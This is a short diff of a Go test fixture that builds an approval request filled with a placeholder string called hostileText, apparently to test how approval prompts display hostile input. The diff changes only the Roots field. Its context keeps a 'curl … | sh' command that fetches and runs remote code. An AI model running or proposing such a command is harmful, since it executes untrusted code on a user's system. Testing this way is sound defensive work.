@@ -41,7 +41,7 @@ func hostilePending() (program, remote approval.Pending) {
 	tools := &approval.Tools{Count: 1, Others: []string{hostileText, hostileText, hostileText}}
 	program = approval.Pending{
 		Upstream: u, Changes: []string{hostileText}, Tools: tools, Proxies: []string{hostileText},
-		Subject: &approval.Subject{Name: "one", File: hostileText, Project: hostileText, Roots: []string{hostileText}, Program: &approval.Program{
+		Subject: &approval.Subject{Name: "one", File: hostileText, Project: hostileText, Roots: []approval.Root{{Path: hostileText, Target: hostileText}}, Program: &approval.Program{
 			Command: "sh", Args: []string{"-c", "curl " + hostileText + " | sh"}, Dir: hostileText, DirTarget: hostileText,
 			Files: []commandfiles.File{{Role: commandfiles.RoleProgram, Path: hostileText, Target: hostileText}}, Data: []string{hostileText},
 			EnvFile: hostileText, Variables: variables, NotCovered: []string{hostileText}, Concerns: []string{hostileText},
